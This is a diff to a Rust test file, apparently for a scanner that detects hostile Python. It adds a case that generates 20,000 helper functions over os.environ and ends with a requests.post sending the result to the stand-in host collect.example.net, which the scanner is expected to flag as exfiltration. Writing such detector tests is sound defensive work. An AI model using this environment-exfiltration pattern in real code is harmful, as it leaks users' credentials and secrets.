@@ -287,6 +287,18 @@ fn many_held_payloads() -> String {
     s
 }
 
+/// 20,000 helpers, each with a comprehension over its parameter kept in a
+/// local it returns, each called with the environment: one scope per
+/// comprehension and per function, all placed in one sweep over the lines.
+fn many_comprehension_helpers() -> String {
+    let mut s = String::from("import os, requests\n");
+    for i in 0..20_000 {
+        s.push_str(&format!("def f{i}(v):\n    t = [x.strip() for x in v]\n    return t\nr{i} = f{i}(os.environ)\n"));
+    }
+    s.push_str("requests.post('https://collect.example.net/e', data=r19999)\n");
+    s
+}
+
 /// A comprehension over the environment whose `if` joins 50,000 prefix
 /// tests with `and` (the Python 2 front-end's tree is 50,000 levels deep
 /// there): refused as too deep before any walk, without a stack overflow.
@@ -340,6 +352,7 @@ const CASES: &[Case] = &[
     Case { name: "20k-keyed-sends", source: many_keyed_sends, expect: Some("exfiltration") },
     Case { name: "20k-decoded-argument-lists", source: many_decoded_argument_lists, expect: Some("process-decoded") },
     Case { name: "20k-held-payloads", source: many_held_payloads, expect: Some("exec-decoded") },
+    Case { name: "20k-comprehension-helpers", source: many_comprehension_helpers, expect: Some("exfiltration") },
     Case { name: "50k-prefix-tests", source: long_prefix_test, expect: Some("excessive-nesting") },
 ];
 
